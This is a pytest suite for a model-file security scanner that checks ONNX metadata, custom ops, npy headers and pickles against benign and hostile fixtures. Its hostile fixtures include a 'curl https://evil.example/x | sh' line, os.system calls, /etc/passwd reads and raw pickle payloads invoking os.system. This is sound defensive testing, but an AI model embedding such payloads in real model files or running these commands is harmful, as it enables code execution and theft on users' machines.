"""False alarms on real artifacts (issue 9, section 4) fixed as classes, each with its hostile twin.

Every benign case is a file written by the real library or shipped in a real PyPI package and
asserts no finding at or above ``medium``; every hostile case asserts the rule, location and
evidence the rule exists for.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from modelscan_lite import scan as scan_tree
from modelscan_lite.config import Config
from modelscan_lite.formats.onnx import KNOWN_OP_DOMAINS, known_ops
from modelscan_lite.model import ArtifactResult, Report, Severity

from .helpers import find, scan, scan_bytes

# the pickle suite runs on both walkers: the pure-Python reference and the compiled core
pytestmark = pytest.mark.usefixtures("walker")

KNOWN_OPS_DIR = Path(__file__).resolve().parent.parent / "rules" / "onnx" / "known-ops"


def failing(result: ArtifactResult | Report) -> list[tuple[str, str | None, str]]:
    return [
        (f.rule, f.location.key, f.message)
        for f in result.findings
        if f.severity >= Severity.MEDIUM
    ]


def _save_onnx(path: Path, model: object) -> Path:
    onnx = pytest.importorskip("onnx")
    onnx.save(model, path)
    return path


def _model(nodes: list[object], opsets: list[tuple[str, int]], **kw: object) -> object:
    onnx = pytest.importorskip("onnx")
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [2])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [2])
    graph = helper.make_graph(nodes, "g", [x], [y])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets])
    for k, v in kw.get("metadata", {}).items():  # type: ignore[attr-defined]
        entry = model.metadata_props.add()
        entry.key, entry.value = k, v
    assert isinstance(model, onnx.ModelProto)
    return model


# --- O104: metadata -------------------------------------------------------------------------

# What Ultralytics' exporter writes into every ONNX export (metadata of the YOLOv8 model that
# ships in the nudenet==3.4.2 wheel, nudenet/320n.onnx, verbatim but for `names`).
ULTRALYTICS_METADATA = {
    "description": "Ultralytics best model trained on data.yml",
    "author": "Ultralytics",
    "date": "2024-06-29T12:33:11.874221",
    "version": "8.2.46",
    "license": "AGPL-3.0 License (https://ultralytics.com/license)",
    "docs": "https://docs.ultralytics.com",
    "stride": "32",
    "task": "detect",
    "batch": "1",
    "imgsz": "[320, 320]",
    "names": "{0: 'FEMALE_GENITALIA_COVERED', 1: 'FACE_FEMALE', 2: 'BUTTOCKS_EXPOSED'}",
}

TORCH_EXPORT = r"""
import sys, warnings, torch, onnx
warnings.simplefilter("ignore")
m = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.SiLU())
torch.onnx.export(m, (torch.randn(1, 3, 8, 8),), sys.argv[1], dynamo=False)
model = onnx.load(sys.argv[1])
for k, v in __import__("json").loads(sys.argv[2]).items():  # Ultralytics' exporter loop
    meta = model.metadata_props.add()
    meta.key, meta.value = k, str(v)
onnx.save(model, sys.argv[1])
"""


@pytest.mark.slow
def test_o104_ultralytics_export_metadata_is_clean(tmp_path: Path) -> None:
    pytest.importorskip("onnx")
    path = tmp_path / "yolo.onnx"
    subprocess.run(
        [sys.executable, "-c", TORCH_EXPORT, str(path), json.dumps(ULTRALYTICS_METADATA)],
        check=True,
        capture_output=True,
        timeout=300,
    )
    result = scan(path)
    assert result.format == "onnx"
    assert not failing(result)


def test_o104_plain_links_in_free_text_are_clean(tmp_path: Path) -> None:
    meta = {
        "docs": "https://docs.ultralytics.com",
        "homepage": "see http://example.org/models/yolo and https://github.com/a/b.git",
        "paper": "https://arxiv.org/abs/2304.00501",
        "usage": "Call model.predict(image) after loading; see the README.",
    }
    path = _save_onnx(tmp_path / "m.onnx", _model([], [("", 17)], metadata=meta))
    assert not failing(scan(path))


@pytest.mark.parametrize(
    ("key", "value", "evidence"),
    [
        ("postprocess", "__import__('os').system('id')", "holds code"),
        # YOLOv5 and Ultralytics eval() `names` / `imgsz`: a call in there runs
        ("names", "[open('/etc/passwd').read()]", "Python expression with a call"),
        ("imgsz", "(lambda: print(1))()", "Python expression with a call"),
        ("setup", "curl https://evil.example/x | sh", "holds code"),
        ("weights", "file:///etc/passwd", "fetches or opens `file://`"),
        ("weights", "ftp://mirror.example/w.bin", "fetches or opens `ftp://`"),
        ("plugin", r"\\evil.example\share\op.dll", "fetches or opens"),
        ("hook", "https://evil.example/payload.sh", "payload.sh"),
        ("hook", "get https://evil.example/stage2.pkl?raw=1 first", "stage2.pkl"),
    ],
)
def test_o104_still_flags_code_and_fetching_references(
    tmp_path: Path, key: str, value: str, evidence: str
) -> None:
    path = _save_onnx(tmp_path / "m.onnx", _model([], [("", 17)], metadata={key: value}))
    finding = find(scan(path), "O104")
    assert finding.location.key == f"metadata_props.{key}"
    assert evidence in finding.message


# --- O101 / O102: known op sets of ONNX Runtime and onnxruntime-extensions ------------------


def test_known_op_lists_are_generated_data_with_provenance() -> None:
    for domain in KNOWN_OP_DOMAINS:
        data = json.loads((KNOWN_OPS_DIR / f"{domain}.json").read_text())
        assert data["domain"] == domain
        assert data["generator"] == "scripts/gen_onnx_known_ops.py"
        assert data["library"] in ("onnxruntime", "onnxruntime-extensions") and data["version"]
        assert data["ops"] == sorted(set(data["ops"])) and data["ops"]
        assert not any(op in ("PyOp", "PythonOp") or "*" in op for op in data["ops"])
        assert known_ops(domain).ops == frozenset(data["ops"])


def test_com_microsoft_list_matches_the_installed_onnxruntime() -> None:
    ort = pytest.importorskip("onnxruntime")
    from onnxruntime.capi import onnxruntime_pybind11_state as state

    data = json.loads((KNOWN_OPS_DIR / "com.microsoft.json").read_text())
    if ort.__version__ != data["version"]:
        pytest.skip(f"list generated from onnxruntime {data['version']}, not {ort.__version__}")
    names = {s.name for s in state.get_all_operator_schema() if s.domain == "com.microsoft"}
    assert names == set(data["ops"])


@pytest.mark.slow
def test_o101_onnxruntime_optimized_model_with_com_microsoft_ops_is_clean(tmp_path: Path) -> None:
    """ONNX Runtime's own graph optimizer writes com.microsoft FusedConv / FusedMatMul."""
    onnx = pytest.importorskip("onnx")
    ort = pytest.importorskip("onnxruntime")
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 3, 8, 8])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, None)
    inits = [
        numpy_helper.from_array(np.ones((4, 3, 3, 3), np.float32), "W"),
        numpy_helper.from_array(np.zeros(4, np.float32), "B"),
        numpy_helper.from_array(np.ones((8, 8), np.float32), "M"),
    ]
    nodes = [
        helper.make_node("Conv", ["X", "W", "B"], ["c"], pads=[1, 1, 1, 1]),
        helper.make_node("Relu", ["c"], ["r"]),
        helper.make_node("Transpose", ["r"], ["t"], perm=[0, 1, 3, 2]),
        helper.make_node("MatMul", ["t", "M"], ["Y"]),
    ]
    graph = helper.make_graph(nodes, "g", [x], [y], inits)
    src = _save_onnx(
        tmp_path / "src.onnx", helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    )
    opts = ort.SessionOptions()
    opts.graph_optimization_level = ort.GraphOptimizationLevel.ORT_ENABLE_EXTENDED
    opts.optimized_model_filepath = str(tmp_path / "optimized.onnx")
    ort.InferenceSession(str(src), opts, providers=["CPUExecutionProvider"])
    optimized = onnx.load(str(tmp_path / "optimized.onnx"))
    ms_ops = {n.op_type for n in optimized.graph.node if n.domain == "com.microsoft"}
    assert ms_ops, "the optimizer fused nothing into com.microsoft"
    assert not failing(scan(tmp_path / "optimized.onnx"))


def test_o101_o102_known_extension_ops_are_clean(tmp_path: Path) -> None:
    """ops onnxruntime-extensions implements natively, as its tokenizer and pre/post-processing
    tools emit them (ai.onnx.contrib and com.microsoft.extensions)."""
    from onnx import helper

    nodes = [
        helper.make_node("StringUpper", ["X"], ["u"], domain="ai.onnx.contrib"),
        helper.make_node("BertTokenizer", ["u"], ["b"], domain="ai.onnx.contrib"),
        helper.make_node("DecodeImage", ["b"], ["Y"], domain="com.microsoft.extensions"),
    ]
    model = _model(nodes, [("", 17), ("ai.onnx.contrib", 1), ("com.microsoft.extensions", 1)])
    assert not failing(scan(_save_onnx(tmp_path / "ppp.onnx", model)))


GEN_TOKENIZER = r"""
import os, sys, tempfile, onnx
from onnxruntime_extensions import gen_processing_models
from transformers import BertTokenizer
d = tempfile.mkdtemp()
vocab = ["[PAD]", "[UNK]", "[CLS]", "[SEP]", "[MASK]", "hello", "world", "scan", "model", "##s"]
with open(os.path.join(d, "vocab.txt"), "w") as f:
    f.write("\n".join(vocab) + "\n")
pre, _ = gen_processing_models(BertTokenizer(os.path.join(d, "vocab.txt")), pre_kwargs={})
assert [(n.op_type, n.domain) for n in pre.graph.node] == [("BertTokenizer", "ai.onnx.contrib")]
onnx.save(pre, sys.argv[1])
"""


@pytest.mark.slow
def test_o102_onnxruntime_extensions_tokenizer_model_is_clean(tmp_path: Path) -> None:
    """A tokenizer graph written by onnxruntime-extensions itself (needs that package)."""
    probe = subprocess.run(
        [sys.executable, "-c", "import onnxruntime_extensions, transformers"],
        capture_output=True,
    )
    if probe.returncode:
        pytest.skip("onnxruntime-extensions is not installed")
    path = tmp_path / "tokenizer.onnx"
    subprocess.run(
        [sys.executable, "-c", GEN_TOKENIZER, str(path)],
        check=True,
        capture_output=True,
        timeout=300,
    )
    assert not failing(scan(path))


@pytest.mark.parametrize(
    ("domain", "op", "rule", "evidence"),
    [
        # an @onnx_op-decorated Python function registered under ai.onnx.contrib
        ("ai.onnx.contrib", "ReverseMatrix", "O102", "Python function"),
        ("ai.onnx.contrib", "PyOp", "O102", "runs Python code"),
        ("com.microsoft.extensions", "PyFunc", "O102", "runs Python code"),
        ("com.microsoft", "Decrypt", "O101", "not a built-in op of domain `com.microsoft`"),
        ("com.microsoft.extensions", "StringUpper", "O101", "not a built-in op"),
        ("com.example.ops", "Decrypt", "O101", "custom-op library"),
    ],
)
def test_o101_o102_unknown_ops_in_runtime_domains_still_flagged(
    tmp_path: Path, domain: str, op: str, rule: str, evidence: str
) -> None:
    from onnx import helper

    node = helper.make_node(op, ["X"], ["Y"], domain=domain, name="n0")
    path = _save_onnx(tmp_path / "m.onnx", _model([node], [("", 17), (domain, 1)]))
    finding = find(scan(path), rule)
    assert finding.location.key == "g/n0"
    assert evidence in finding.message and op in finding.message


def test_o101_unreadable_op_list_fails_closed(monkeypatch: pytest.MonkeyPatch) -> None:
    import modelscan_lite.engine as engine

    known_ops.cache_clear()
    monkeypatch.setattr(engine, "rules_dir", lambda: Path("/nonexistent"))
    try:
        table = known_ops("com.microsoft")
        assert not table.ops and "no readable op list" in table.source
    finally:
        known_ops.cache_clear()


# --- O202: opset imports --------------------------------------------------------------------


def test_o202_onnx_ml_only_model_shipped_in_onnxruntime_is_clean() -> None:
    ort = pytest.importorskip("onnxruntime")
    path = Path(ort.__file__).parent / "datasets" / "logreg_iris.onnx"
    result = scan(path)
    assert result.format == "onnx"
    assert not failing(result)


def test_o202_onnx_ml_only_model_from_onnx_helper_is_clean(tmp_path: Path) -> None:
    from onnx import helper

    node = helper.make_node("Normalizer", ["X"], ["Y"], domain="ai.onnx.ml", norm="L2")
    model = _model([node], [("ai.onnx.ml", 3)])
    assert not failing(scan(_save_onnx(tmp_path / "ml.onnx", model)))


@pytest.mark.parametrize(
    ("domain", "opsets", "named"),
    [
        ("", [("ai.onnx.ml", 3)], "ai.onnx"),  # a default-domain op, no default opset
        ("com.microsoft", [("", 17)], "com.microsoft"),
    ],
)
def test_o202_node_domain_without_opset_import_still_flagged(
    tmp_path: Path, domain: str, opsets: list[tuple[str, int]], named: str
) -> None:
    from onnx import helper

    op = "Relu" if domain == "" else "FusedConv"
    node = helper.make_node(op, ["X"], ["Y"], domain=domain, name="n0")
    path = _save_onnx(tmp_path / "m.onnx", _model([node], opsets))
    finding = find(scan(path), "O202")
    assert finding.location.key == "g/n0"
    assert f"domain `{named}`" in finding.message and "no opset" in finding.message


def test_o202_out_of_range_versions_still_flagged(tmp_path: Path) -> None:
    model = _model([], [("", 99)])
    finding = find(scan(_save_onnx(tmp_path / "m.onnx", model)), "O202")
    assert finding.location.key == "opset_import" and "opset 99" in finding.message
    model = _model([], [("", 17)])
    model.ir_version = 99  # type: ignore[attr-defined]
    finding = find(scan(_save_onnx(tmp_path / "m2.onnx", model)), "O202")
    assert finding.location.key == "ir_version"


# --- H501: factorised embeddings ------------------------------------------------------------

MAKE_FACTORISED = r"""
import os, sys, warnings
warnings.simplefilter("ignore")
from transformers import (AlbertConfig, AlbertModel, ElectraConfig, ElectraForPreTraining,
                          MobileBertConfig, MobileBertModel, BertConfig, BertModel)
out = sys.argv[1]
common = dict(vocab_size=120, num_hidden_layers=2, num_attention_heads=2,
              intermediate_size=32, max_position_embeddings=32)
for name, cfg, cls in [
    ("albert", AlbertConfig(embedding_size=8, hidden_size=16, **common), AlbertModel),
    ("electra", ElectraConfig(embedding_size=8, hidden_size=16, **common),
     ElectraForPreTraining),
    ("mobilebert", MobileBertConfig(embedding_size=8, hidden_size=32, intra_bottleneck_size=16,
                                    true_hidden_size=16, num_feedforward_networks=2, **common),
     MobileBertModel),
    ("bert", BertConfig(hidden_size=16, **common), BertModel),
]:
    cls(cfg).save_pretrained(os.path.join(out, name))
"""


@pytest.fixture(scope="module")
def factorised(tmp_path_factory: pytest.TempPathFactory) -> Path:
    pytest.importorskip("transformers")
    out = tmp_path_factory.mktemp("factorised")
    subprocess.run(
        [sys.executable, "-c", MAKE_FACTORISED, str(out)],
        check=True,
        capture_output=True,
        timeout=600,
    )
    return out


@pytest.mark.slow
@pytest.mark.parametrize("name", ["albert", "electra", "mobilebert"])
def test_h501_factorised_embeddings_are_clean(factorised: Path, name: str) -> None:
    config = json.loads((factorised / name / "config.json").read_text())
    assert config["embedding_size"] != config["hidden_size"]
    report = scan_tree([factorised / name], Config(jobs=1))
    assert any(a.format == "hf-repo" for a in report.artifacts)
    assert not failing(report)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "key", "value"),
    [
        ("albert", "embedding_size", 12),  # the factorised width itself lies
        ("electra", "embedding_size", 16),
        ("bert", "hidden_size", 24),  # no factorisation: hidden_size is the width
    ],
)
def test_h501_width_mismatch_still_flagged(
    factorised: Path, tmp_path: Path, name: str, key: str, value: int
) -> None:
    repo = tmp_path / name
    shutil.copytree(factorised / name, repo)
    config = json.loads((repo / "config.json").read_text())
    config[key] = value
    (repo / "config.json").write_text(json.dumps(config))
    report = scan_tree([repo], Config(jobs=1))
    hits = [f for f in report.findings if f.rule == "H501" and f.location.key == key]
    assert hits, [(f.rule, f.location.key, f.message) for f in report.findings]
    assert f"{key} is {value}" in hits[0].message and "wide" in hits[0].message


# --- A201: Python-2 npy headers -------------------------------------------------------------

NUMPY_DATA = Path(__import__("numpy").__file__).parent / "lib" / "tests" / "data"


@pytest.mark.parametrize("name", ["win64python2.npy", "python3.npy"])
def test_a201_numpy_own_python2_test_arrays_are_clean(name: str) -> None:
    path = NUMPY_DATA / name
    if not path.exists():
        pytest.skip("this numpy ships no test data")
    if name == "win64python2.npy":
        assert b"2L," in path.read_bytes()[:128]
    result = scan(path)
    assert result.format == "npy"
    assert not result.findings, [(f.rule, f.message) for f in result.findings]


@pytest.mark.parametrize("name", ["py2-objarr.npy", "py2-objarr.npz"])
def test_a201_numpy_py2_object_arrays_get_a206_only(name: str) -> None:
    path = NUMPY_DATA / name
    if not path.exists():
        pytest.skip("this numpy ships no test data")
    result = scan(path)
    assert "A206" in {f.rule for f in result.findings}
    assert not failing(result)


def _npy(header: str, body: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
    raw = header.encode("latin-1")
    pad = 64 - (10 + len(raw) + 1) % 64
    raw += b" " * pad + b"\n"
    if version[0] == 1:
        head = b"\x93NUMPY" + bytes(version) + len(raw).to_bytes(2, "little")
    else:
        head = b"\x93NUMPY" + bytes(version) + len(raw).to_bytes(4, "little")
    return head + raw + body


def test_a201_py2_object_array_pickle_is_still_scanned(tmp_path: Path) -> None:
    payload = b"cos\nsystem\n(S'touch /tmp/modelscan-marker'\ntR."
    data = _npy("{'descr': '|O8', 'fortran_order': False, 'shape': (1L,), }", payload)
    result = scan_bytes(tmp_path, data, "obj.npy")
    assert find(result, "A206").location.offset == len(data) - len(payload)
    code = [f for f in result.findings if f.severity >= Severity.HIGH]
    assert code and any("os.system" in f.message or "posix.system" in f.message for f in code)


@pytest.mark.parametrize(
    ("header", "version", "evidence"),
    [
        # no literal: the L filter does not make code into data
        (
            "{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1L,)}",
            (1, 0),
            "not a literal dict",
        ),
        # numpy retries Python-2 headers for format 1.0 and 2.0 only
        (
            "{'descr': '<f8', 'fortran_order': False, 'shape': (2L,), }",
            (3, 0),
            "not a literal dict",
        ),
        (
            "{'descr': '<f8', 'fortran_order': False, 'shape': (2 L L,), }",
            (1, 0),
            "not a literal dict",
        ),
    ],
)
def test_a201_bad_headers_still_flagged(
    tmp_path: Path, header: str, version: tuple[int, int], evidence: str
) -> None:
    data = _npy(header, b"\0" * 16, version)
    finding = find(scan_bytes(tmp_path, data, "bad.npy"), "A201")
    assert evidence in finding.message


# --- P203: trailing whitespace after STOP ---------------------------------------------------


@pytest.mark.parametrize("tail", [b"\n", b"\r\n", b"  \n\n"])
@pytest.mark.parametrize("protocol", [0, 2, 4])
def test_p203_trailing_newline_written_after_pickle_is_clean(
    tmp_path: Path, tail: bytes, protocol: int
) -> None:
    path = tmp_path / "state.pkl"
    with open(path, "wb") as f:  # a writer that ends its file with a newline
        pickle.dump({"lr": 0.1, "steps": [1, 2, 3]}, f, protocol=protocol)
        f.write(tail)
    result = scan(path)
    assert not result.findings, [(f.rule, f.message) for f in result.findings]


def test_p203_numpy_py2_object_array_trailing_newline_is_not_reported() -> None:
    path = NUMPY_DATA / "py2-np0-objarr.npy"
    if not path.exists():
        pytest.skip("this numpy ships no test data")
    assert path.read_bytes().endswith(b".\n")
    assert "P203" not in {f.rule for f in scan(path).findings}


@pytest.mark.parametrize(
    ("tail", "evidence"),
    [
        (b"\nhidden", "7 bytes after the pickle's STOP"),
        (b"\n\x00", "2 bytes after the pickle's STOP"),
        (b" " * 5000, "5000 bytes after the pickle's STOP"),  # past the window: reported
        (b"\n" + pickle.dumps(1, protocol=0)[:-1], "after the pickle's STOP"),
    ],
)
def test_p203_other_trailing_data_still_flagged(tmp_path: Path, tail: bytes, evidence: str) -> None:
    body = pickle.dumps({"a": 1}, protocol=2)
    finding = find(scan_bytes(tmp_path, body + tail, "t.pkl"), "P203")
    assert finding.location.offset == len(body)
    assert evidence in finding.message


def test_p203_second_pickle_after_newline_is_still_reported(tmp_path: Path) -> None:
    body = pickle.dumps({"a": 1}, protocol=2)
    evil = b"cos\nsystem\n(S'touch /tmp/modelscan-marker'\ntR."
    result = scan_bytes(tmp_path, body + b"\n" + evil, "t.pkl")
    assert failing(result), [(f.rule, f.message) for f in result.findings]
    assert os.path.exists(tmp_path / "t.pkl")
